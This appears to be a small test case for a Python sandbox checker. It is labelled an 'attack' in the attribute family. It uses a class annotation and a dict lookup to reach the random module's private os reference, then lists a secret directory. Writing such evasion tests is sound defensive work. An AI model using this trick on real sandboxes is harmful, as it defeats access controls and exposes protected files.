# attack: an annotation `_os` in a class allows ._os everywhere; the module comes out of a dict, so it has no path
# family: attribute
import random
class Allowed:
    _os: object
os = {"r": random}["r"]._os
print("REACHED", os)
print(os.listdir("$SECRET_DIR"))
